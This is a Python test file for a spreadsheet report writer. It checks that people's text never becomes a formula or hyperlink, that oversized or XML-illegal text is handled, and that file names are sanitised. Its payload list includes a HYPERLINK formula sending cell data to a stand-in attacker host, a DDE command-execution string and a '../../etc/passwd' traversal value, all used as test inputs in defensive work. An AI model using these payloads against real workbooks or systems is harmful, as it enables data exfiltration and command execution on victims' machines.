"""Texts of people in the workbook: never a formula, never cut, never a broken file."""

import re
import zipfile
from io import BytesIO
from types import SimpleNamespace

import pytest

from boards.converters import PeriodKey
from finance.queries import SpendGroup, SpendReport
from reports.names import DRAFT, file_name
from reports.workbook.writer import CannotWriteText
from tests.reports.workbook_builders import (
    bromley_report,
    make_facts,
    make_report,
    make_row,
    opened,
    recalculated,
    written,
)

PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?"&B2,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
    "   =1+1",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|'/c calc'!A0",
    "{=1+1}",
    "http://evil.invalid/",
    "<r><t>markup</t></r>",
    "_x003D_1+1",
)
MARKED = {text for text in PAYLOADS if text.lstrip(" ")[0] in "=+-@\t\n|%＝＋－＠"}


@pytest.mark.check(49)
@pytest.mark.office
def test_text_that_looks_like_a_formula_is_unchanged_in_libreoffice(tmp_path):
    contents = written(make_report(tuple(make_row(name=text) for text in PAYLOADS)))

    names = [row[6].value for row in recalculated(contents, tmp_path)["Data"]["A5:L23"]]

    assert names == list(PAYLOADS)


@pytest.mark.check(49)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_person_becomes_a_formula(payload):
    fields = ("reference", "led_by", "heading", "name", "stream", "explanation")
    row = make_row(**dict.fromkeys(fields, payload))
    harmless = written(make_report((make_row(),)))
    report = SpendReport((SpendGroup("x", payload, payload, (row,)),))

    contents = written(report, make_facts(payload))

    workbook = opened(contents)
    in_expenditure, in_data, on_cover = 4 + 1, 6 + 1, 1
    assert texts(workbook).count(payload) == in_expenditure + in_data + on_cover
    assert formulas_in(contents) == formulas_in(harmless)
    assert not [cell for sheet in workbook for row in sheet for cell in row if cell.hyperlink]


def texts(workbook):
    return [
        cell.value
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def formulas_in(contents):
    """Every formula in the XML of the sheets."""
    archive = zipfile.ZipFile(BytesIO(contents))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return re.findall("<f>(.*?)</f>", "".join(archive.read(name).decode() for name in sheets))


@pytest.mark.check(49)
def test_text_that_begins_like_a_formula_is_marked_as_text():
    rows = tuple(make_row(name=text) for text in (*PAYLOADS, "Plain"))

    cells = [row[6] for row in opened(written(make_report(rows)))["Data"]["A5:L24"]]

    marked = {cell.value for cell in cells if cell.quotePrefix}
    assert marked == MARKED


@pytest.mark.parametrize("text", ["x" * 32_768, "🙂" * 16_384], ids=["letters", "emoji"])
def test_a_text_longer_than_a_cell_is_refused_with_its_place(text):
    with pytest.raises(CannotWriteText, match="cell L5 of the sheet Data"):
        written(make_report((make_row(explanation=text),)))


def test_the_longest_text_a_cell_can_hold_is_kept_whole():
    text = "<&é>" * 8191 + "end"

    assert opened(written(make_report((make_row(explanation=text),))))["Data"]["L5"].value == text


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1f", "\ufffe", "\uffff", "\x85"])
def test_a_character_that_xml_forbids_does_not_break_the_file(character):
    contents = written(make_report((make_row(name=f"a{character}b"),)), make_facts(character))

    assert opened(contents)["Data"]["G5"].value.startswith("a")


def test_half_a_character_is_refused():
    with pytest.raises(ValueError, match="surrogates not allowed"):
        written(make_report((make_row(name="\ud800"),)))


@pytest.mark.parametrize(
    ("board", "name"),
    [
        ("Bromley", "BCF-Bromley-2023-24-Q3-expenditure-DRAFT.xlsx"),
        (
            "Bournemouth, Christchurch and Poole",
            "BCF-Bournemouth-Christchurch-and-Poole-2023-24-Q3-expenditure-DRAFT.xlsx",
        ),
        ("King's/Lynn [East]: *?", "BCF-Kings-Lynn-East-2023-24-Q3-expenditure-DRAFT.xlsx"),
        ("../../etc/passwd", "BCF-etc-passwd-2023-24-Q3-expenditure-DRAFT.xlsx"),
        ("Ynys Môn", "BCF-Ynys-Mon-2023-24-Q3-expenditure-DRAFT.xlsx"),
        ("//", "BCF-2023-24-Q3-expenditure-DRAFT.xlsx"),
    ],
)
def test_a_file_name_holds_letters_digits_and_hyphens_only(board, name):
    quarter = SimpleNamespace(board=SimpleNamespace(name=board), key=PeriodKey(2023, 3))

    assert file_name(quarter, "expenditure", "xlsx", DRAFT) == name


@pytest.mark.parametrize("board", ["A/B [C]: *?", "King's Lynn", "Poole & Dorset", "&" * 100])
def test_a_board_with_any_name_gets_a_workbook_that_opens(board):
    workbook = opened(written(bromley_report(), make_facts(board)))

    assert workbook["Cover"]["A1"].value.endswith(f": {board}, Quarter 3 2023-24")
    footer = workbook["Data"].oddFooter.left.text
    assert footer.startswith(f"{board.replace('&', '&&')} BCF")
